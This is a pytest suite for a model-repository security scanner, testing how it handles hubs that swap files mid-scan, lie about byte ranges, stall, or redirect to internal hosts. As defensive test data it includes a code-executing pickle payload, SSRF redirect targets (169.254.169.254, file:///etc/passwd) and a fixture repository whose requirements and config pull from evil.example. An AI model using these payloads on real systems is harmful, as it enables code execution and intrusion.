"""Hubs and stores that lie, stall or change in mid-scan: never a clean verdict, never another host."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable
from typing import Any

import pytest

from inspector import artifacts
from inspector.provenance import Loading
from inspector.provenance.errors import InspectorError
from inspector.scan import ScanOptions, run_scan
from inspector.sources import Entry, ReadFailure, open_target
from inspector.sources.hub import HubSource
from inspector.sources.hub.client import HubClient
from inspector.sources.hub.endpoint import Endpoint, is_inner, resolves_inside

CLEAN = b"N."
WEIGHTS = b"\x80\x03B" + (200_000).to_bytes(4, "little") + bytes(200_000) + b"."
HOSTILE = b"cposix\nsystem\n(S'echo'\ntR."
FINE = {"data-only", "allow-listed", "library", "no-loader"}


def scan(target: str = "hf://acme/x") -> dict[str, Any]:
    return run_scan(ScanOptions(target, audit=False, jobs=1))


def opened(target: str = "hf://acme/x") -> HubSource:
    source = open_target(target)
    assert isinstance(source, HubSource)
    return source


def error_of(target: str = "hf://acme/x") -> InspectorError:
    with pytest.raises(InspectorError) as caught:
        open_target(target)
    return caught.value


def unreadable(source: HubSource) -> None:
    """No byte of the one large file is given."""
    (entry,) = source.wanted_remotely()
    data = source.open_remote(entry)
    for place in (0, 100_000):
        with pytest.raises(ReadFailure):
            data.read_at(place, 2)


@pytest.fixture
def hasty(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("inspector.sources.hub.client.TOTAL_SECONDS", 0.5)
    monkeypatch.setattr("inspector.sources.hub.client.READ_SECONDS", 0.4)


def on_first(hub: Any, part: str, change: Callable[[], None]) -> None:
    """``change`` happens when the first request with ``part`` in its path comes in."""
    left = [change]

    def react(seen: Any) -> None:
        if part in seen.path and left:
            left.pop()()

    hub.react = react


class TestWhatChangesInTheMiddleOfAScan:
    @pytest.fixture
    def model(self, hub: Any) -> Any:
        hub.organization("acme")
        return hub.model("acme/x", {"config.json": b"{}", "model.bin": WEIGHTS})

    @staticmethod
    def never_clean(result: dict[str, Any], path: str = "model.bin") -> None:
        (file,) = [one for one in result["files"] if one["path"] == path]
        unread = {one["path"] for one in result["coverage"]["not_analysed"]}
        assert path in unread or any(
            item["path"] == path for finding in result["findings"] for item in finding["evidence"]
        )
        assert result["incomplete"]
        assert file["loading"] not in FINE or path in unread

    def test_a_file_of_the_same_size_is_put_in_its_place(
        self, hub: Any, hub_standin: Any, model: Any
    ) -> None:
        other = hub_standin.File(HOSTILE + bytes(len(WEIGHTS) - len(HOSTILE)), True)
        on_first(hub, "/resolve/", lambda: model.files.update({"model.bin": other}))
        self.never_clean(scan())

    def test_a_small_text_is_put_in_its_place(self, hub: Any, hub_standin: Any, model: Any) -> None:
        other = hub_standin.File(b"[]", False)
        on_first(hub, "/resolve/", lambda: model.files.update({"config.json": other}))
        self.never_clean(scan(), "config.json")

    def test_the_repository_is_deleted(self, hub: Any, model: Any) -> None:
        on_first(hub, "/resolve/", lambda: hub.repos.clear())
        result = scan()
        self.never_clean(result)
        self.never_clean(result, "config.json")
        assert len(result["files"]) == 2  # what was listed stays

    def test_the_branch_moves_on(self, hub: Any, model: Any) -> None:
        listed = model.sha

        def move() -> None:
            model.refs.clear()
            model.refs["main"] = "e" * 40

        on_first(hub, "/resolve/", move)
        result = scan()
        assert result["target"]["revision"] == listed
        self.never_clean(result)

    def test_the_name_goes_to_somebody_else(self, hub: Any, hub_standin: Any, model: Any) -> None:
        def taken() -> None:
            hub.model(
                "acme/x", {"config.json": b"{}", "model.bin": HOSTILE + bytes(len(WEIGHTS) - len(HOSTILE))}
            )

        on_first(hub, "/resolve/", taken)
        self.never_clean(scan())

    def test_the_list_names_another_digest_than_the_bytes_have(self, hub: Any, hub_standin: Any) -> None:
        row = {"lfs": {"oid": "a" * 64, "size": len(CLEAN)}}
        hub.model("acme/x", {"model.bin": hub_standin.File(CLEAN, True, row=row)})
        self.never_clean(scan())


@pytest.mark.parametrize(
    "row",
    [
        {"size": -1, "lfs": {"oid": "a" * 64, "size": -5}},
        {"size": "12", "lfs": None},
        {"size": 2.5, "lfs": None},
        {"size": 1 << 70, "lfs": {"oid": "a" * 64, "size": 1 << 70}},
        {"lfs": {"oid": "z" * 64, "size": 2}},
        {"lfs": {"oid": "ab" * 31, "size": 2}},
        {"lfs": {"oid": ["a" * 64], "size": 2}},
        {"lfs": [1, 2], "oid": None},
        {"lfs": {"size": 3}, "size": 2},
        {"oid": "not hex", "lfs": None},
        {"oid": {"a": 1}, "lfs": "yes"},
    ],
)
def test_a_row_that_makes_no_sense_gives_no_clean_verdict_on_other_bytes(
    hub: Any, hub_standin: Any, row: dict[str, Any]
) -> None:
    hub.model("acme/x", {"model.bin": hub_standin.File(HOSTILE, True, row=row)})
    source = opened()
    (entry,) = source.entries()
    assert isinstance(entry, Entry)
    assert entry.claimed_sha256 in (None, "a" * 64) and (entry.size is None or entry.size >= 0)
    if entry in source.wanted_remotely():
        artifact = artifacts.read(source.open_remote(entry), entry.path)
        assert artifact.loading in (Loading.RUNS_CODE, Loading.UNREADABLE)
    else:
        with pytest.raises(ReadFailure):
            source.open(entry)


def test_a_file_listed_twice_with_the_same_words_is_one_file(hub: Any) -> None:
    model = hub.model("acme/x", {"model.bin": CLEAN})
    rows = [model.files["model.bin"].tree_row("model.bin")] * 3
    json_of = {"content-type": "application/json"}
    hub.fault("/tree/", status=200, body=json.dumps(rows).encode(), headers=json_of)
    assert [file["path"] for file in scan()["files"]] == ["model.bin"]


class TestLiesAboutRanges:
    @pytest.mark.parametrize(
        "told",
        [
            "bytes 0-1/2",
            "bytes 0-199999/*",
            "bytes */200000",
            "bytes 5-3/200000",
            "bytes -1-4/200000",
            "bytes 0-199999/99999999999999999999999",
            "items 0-199999/200000",
            "",
        ],
    )
    def test_what_is_said_to_be_another_range_is_not_used(self, hub: Any, told: str) -> None:
        hub.model("acme/x", {"model.bin": CLEAN + bytes(199_998)})
        hub.fault("/lfs/", status=206, body=CLEAN + bytes(199_998), headers={"content-range": told})
        unreadable(opened())

    @pytest.mark.parametrize("status", [200, 204, 206, 300, 304, 404, 451, 500])
    def test_whatever_status_a_store_answers_nothing_is_made_of_it(self, hub: Any, status: int) -> None:
        hub.model("acme/x", {"model.bin": CLEAN + bytes(199_998)})
        hub.fault("/lfs/", status=status, body=b"" if status in (204, 304) else CLEAN)
        unreadable(opened())


@pytest.mark.usefixtures("hasty")
@pytest.mark.parametrize(
    ("where", "kind"),
    [
        ("/resolve/", "hang"),
        ("/resolve/", "trickle"),
        ("/lfs/", "drip"),
        ("/organizations/", "hang"),
        ("/paths-info/", "trickle"),
    ],
)
def test_a_stalling_answer_costs_its_part_and_the_rest_stays(hub: Any, where: str, kind: str) -> None:
    hub.organization("acme")
    files = {f"{n}.bin": WEIGHTS for n in range(12)}
    hub.model("acme/x", {**files, **{f"{n}.py": b"x = 1\n" for n in range(12)}})
    hub.fault(where, kind)
    result = scan()
    assert hub.count(where) + hub.count(where, "store") == 1  # not once for every file
    assert len(result["files"]) == 24
    unread = {one["path"] for one in result["coverage"]["not_analysed"]}
    fine = {file["path"] for file in result["files"] if file["loading"] in FINE}
    assert not (fine & set(files)) if where in ("/resolve/", "/lfs/") else not unread
    if where == "/resolve/":
        assert len(unread) == 24


@pytest.mark.usefixtures("hasty")
@pytest.mark.parametrize("where", ["/api/models/acme/x", "/tree/"])
def test_a_body_that_trickles_is_left_with_a_sentence(hub: Any, where: str) -> None:
    hub.model("acme/x")
    hub.fault(where, "trickle")
    assert "cannot be reached" in error_of().sentence


@pytest.mark.parametrize("headers", [{"x-a": "b" * 300_000}, {f"x-{n}": "b" * 100 for n in range(5_000)}])
def test_headers_without_measure_are_a_sentence(hub: Any, headers: dict[str, str]) -> None:
    hub.model("acme/x")
    hub.fault("/api/models/", status=200, body=b"{}", headers=headers)
    assert "cannot be reached" in error_of().sentence


def test_a_message_of_the_hub_is_not_repeated_raw(hub: Any) -> None:
    said = {"x-error-message": "\x1b]0;owned\x07" + "A" * 5_000, "x-error-code": "RevisionNotFound"}
    hub.fault(
        "/api/models/", status=404, headers={key: value.replace("\x1b", "?") for key, value in said.items()}
    )
    shown = str(error_of("hf://acme/x@v1"))
    assert "owned" not in shown and "AAAA" not in shown


@pytest.mark.parametrize(
    "location",
    [
        "file:///etc/passwd",
        "ftp://127.0.0.1/x",
        "http://user:secret@127.0.0.1/x",
        "gopher://127.0.0.1:70/_x",
        "//",
        "http://[::1",
        "javascript:alert(1)",
        "/acme/x/resolve/main/model.bin",
    ],
)
def test_a_redirect_of_bytes_that_leads_nowhere_is_not_followed(hub: Any, location: str) -> None:
    hub.model("acme/x", {"model.bin": CLEAN + bytes(200_000)})
    hub.fault("/resolve/", status=302, headers={"location": location})
    unreadable(opened())


class TestLures:
    """A hub on the internet that sends us to a machine inside."""

    @pytest.mark.parametrize(
        "host",
        [
            "127.0.0.1",
            "10.1.2.3",
            "192.168.0.1",
            "169.254.169.254",
            "[::1]",
            "[fd00::1]",
            "[fe80::1]",
            "0.0.0.0",
            "localhost",
            "LOCALHOST.",
            "db.internal",
            "nas.local",
            "2130706433",
            "0x7f000001",
            "127.1",
        ],
    )
    def test_an_inner_address_is_known_as_one(self, host: str) -> None:
        assert is_inner(host)

    @pytest.mark.parametrize("host", ["cdn-lfs.hf.co", "huggingface.co", "8.8.8.8", "[2606:4700::1111]"])
    def test_an_outer_address_is_none(self, host: str) -> None:
        assert not is_inner(host)

    @pytest.mark.parametrize(
        ("answers", "is_mirror"),
        [
            (["10.0.0.7"], True),
            (["10.0.0.7", "fe80::1%eth0"], True),
            (["10.0.0.7", "8.8.8.8"], False),
            ([], False),
        ],
    )
    def test_a_mirror_in_a_network_of_ones_own_may_keep_its_files_there(
        self, monkeypatch: pytest.MonkeyPatch, answers: list[str], is_mirror: bool
    ) -> None:
        rows = [(2, 1, 6, "", (address, 0)) for address in answers]
        monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: rows)
        assert resolves_inside("hub.corp.example") is is_mirror

    def test_bytes_are_not_fetched_from_inside_for_a_hub_outside(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: [(2, 1, 6, "", ("8.8.8.8", 0))])
        client = HubClient(Endpoint("https://hub.example", "hub.example", ("https", "hub.example", 443)))
        ask = client.ask("acme/x")
        with pytest.raises(InspectorError, match=r"a redirect to 169\.254\.169\.254"):
            client._redirected("https://hub.example/a", "https://169.254.169.254/latest", ask, True)
        outside = client._redirected("https://hub.example/a", "https://cdn.example/b", ask, True)
        assert outside == "https://cdn.example/b"


def test_pages_without_end_end(hub: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("inspector.sources.hub.tree.MAX_PAGES", 20)
    hub.model("acme/x")
    asked: list[str] = []

    def another_page(seen: Any) -> None:
        if "/tree/" in seen.path:
            asked.append(seen.query)
            hub.faults.clear()
            link = {"link": f'<{hub.endpoint}{seen.path}?cursor={len(asked)}>; rel="next"'}
            hub.fault("/tree/", status=200, body=b"[]", headers={**link, "content-type": "application/json"})

    hub.react = another_page
    assert "was not read to its end" in error_of().sentence
    assert len(asked) == 20


@pytest.mark.parametrize("depth", [50_000, 5_000_000])
def test_json_as_deep_as_it_is_long_is_a_sentence(hub: Any, depth: int) -> None:
    hub.model("acme/x")
    body = b'[{"path":' * (depth // 9)
    hub.fault("/tree/", status=200, body=body, headers={"content-type": "application/json"})
    assert "broken JSON" in error_of().sentence


def test_names_with_control_and_bidi_characters_are_shown_escaped(hub: Any) -> None:
    names = ["a\u202egpj.py", "b\x1b[2Jc.py", "d\ne.py", "f\u2066g.bin"]
    hub.model("acme/x", dict.fromkeys(names, b"x = 1\n"))
    hub.fault("/resolve/", status=500)
    result = scan()
    said = json.dumps([result["incomplete"], result["coverage"]["not_analysed"]], ensure_ascii=False)
    assert len(result["coverage"]["not_analysed"]) == 4
    whys = " ".join(one["why"] for one in result["coverage"]["not_analysed"])
    assert not any(mark in whys for mark in ("\u202e", "\x1b", "\n", "\u2066"))
    assert said


def test_no_name_is_looked_up_but_the_hubs_own_and_its_stores(
    hub: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Everything that is connected to, by a whole scan of a hostile repository, is the hub or its store."""
    connected: list[Any] = []
    original = socket.socket.connect

    def connect(self: socket.socket, address: Any) -> None:
        connected.append(address)
        original(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    hub.model(
        "acme/x",
        {
            "README.md": b"![x](http://evil.example/p.png) <img src=http://evil.example/>",
            "config.json": b'{"auto_map": {"AutoModel": "evil/y--m.M"}, "_name_or_path": "http://evil.example/z"}',
            "model.bin": HOSTILE,
            "requirements.txt": b"--index-url http://evil.example/simple\nx @ http://evil.example/x.whl\n",
        },
        card={"base_model": "http://evil.example/base", "thumbnail": "http://evil.example/t.png"},
    )
    scan()
    ports = {int(address.rpartition(":")[2]) for address in (hub.endpoint, hub.store)}
    assert connected and {address[1] for address in connected if isinstance(address, tuple)} <= ports


def test_bytes_that_are_asked_for_twice_are_one_file(hub: Any) -> None:
    """An answer for the first part of one file and the second of another never makes a third."""
    hub.model("acme/x", {"model.bin": CLEAN + bytes(400_000)})
    source = opened()
    (entry,) = source.wanted_remotely()
    assert isinstance(entry, Entry)
    data = source.open_remote(entry)
    data.read_at(0, 10)
    hub.repos["model", "acme/x"].files["model.bin"].body = HOSTILE + bytes(400_002 - len(HOSTILE))
    with pytest.raises(ReadFailure):
        data.read_at(150_000, 10)
